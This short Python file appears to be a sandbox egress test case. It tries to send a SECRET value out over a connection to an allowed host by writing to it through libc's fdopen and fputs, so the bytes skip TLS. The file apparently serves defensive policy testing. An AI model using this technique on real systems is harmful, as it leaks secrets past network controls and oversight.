# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a connection to an allowed name becomes a stdio stream, which writes bytes that are not
#   TLS from within libc
# proof: word
# needs: resolver
import ctypes

from attack import SECRET, at_allowed, attempt, libc


def say(out):
    c = libc()
    c.fdopen.restype = ctypes.c_void_p
    stream = ctypes.c_void_p(c.fdopen(out.fileno(), b"w"))
    if stream:
        c.fputs(SECRET.encode(), stream)
        c.fflush(stream)


@attempt
def send():
    return at_allowed(say)
